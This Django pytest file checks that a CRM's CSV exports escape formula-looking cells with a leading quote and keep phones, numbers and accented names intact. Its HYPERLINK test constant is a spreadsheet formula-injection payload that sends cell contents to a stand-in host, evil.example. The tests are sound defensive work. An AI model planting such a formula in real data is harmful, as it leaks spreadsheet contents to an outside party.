"""Every CSV export a manager downloads is safe to open in a spreadsheet: free text that a spreadsheet would
run as a formula is exported as text (a leading single quote), numbers and E.164 phones stay as they are, the
file starts with a UTF-8 BOM (so "Wójcik" reads right), and the drill-down rows carry the customer's id."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from customers.tests.factories import CaseFactory, CustomerFactory
from cxcrm.tables import BOM
from feedback.choices import InvitationStatus
from feedback.metrics.definitions import METRICS
from feedback.models import Response
from feedback.tests.factories import InvitationFactory
from feedback.tokens import invitation_token

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(BOM.encode("utf-8"))
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))


def drill_csv(client, metric: str):
    today = timezone.localdate()
    query = {"metric": metric, "start": today - timedelta(days=7), "end": today, "format": "csv"}
    return client.get(reverse("feedback:report_drilldown"), query)


def test_a_survey_comment_formula_reaches_the_managers_csv_export_as_text(client, manager_user):
    customer = CustomerFactory(first_name="Julia", last_name="Wójcik")
    invitation = InvitationFactory(customer=customer, status=InvitationStatus.SENT, sent_at=timezone.now())
    question = invitation.survey.questions.get(is_primary=True)
    answer_url = reverse("feedback:survey_answer", args=[invitation_token(invitation.pk)])
    client.post(answer_url, {f"q{question.pk}": "3", "comment": HYPERLINK})
    assert Response.objects.get().comment == HYPERLINK  # stored as typed

    client.force_login(manager_user)
    rows = csv_rows(drill_csv(client, invitation.survey.kind))

    header, row = rows[0], rows[1]
    assert header[0] == "Customer id" and row[0] == str(customer.pk)
    cells = dict(zip(header, row, strict=True))
    assert cells["Comment"] == "'" + HYPERLINK
    assert cells["Customer"] == "Julia Wójcik"
    assert cells["Score"] == "3"


@pytest.mark.parametrize("metric", list(METRICS))
def test_every_drill_down_export_starts_with_a_bom_and_the_customer_id(client, manager_user, metric):
    client.force_login(manager_user)

    response = drill_csv(client, metric)

    assert response.status_code == 200
    assert csv_rows(response)[0][0] == "Customer id"


def test_the_cases_export_neutralises_formulas_and_keeps_numbers_phones_and_accents(client, manager_user):
    customer = CustomerFactory(first_name="@Julia", last_name="Wójcik")
    CaseFactory(customer=customer, subject=HYPERLINK, topic="+5511912345678", status="new")
    CaseFactory(customer=customer, subject="\tTabbed", topic="-12.5", status="new")
    CaseFactory(customer=customer, subject="\rReturn", topic="-1+2", status="new")
    client.force_login(manager_user)

    rows = csv_rows(client.get(reverse("customers:case_export"), {"sort": "opened"}))

    header = rows[0]
    cells = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert {c["customer_id"] for c in cells} == {str(customer.pk)}
    assert {c["subject"] for c in cells} == {"'" + HYPERLINK, "'\tTabbed", "'\rReturn"}
    assert {c["topic"] for c in cells} == {"+5511912345678", "-12.5", "'-1+2"}
    assert {c["customer"] for c in cells} == {"'@Julia Wójcik"}
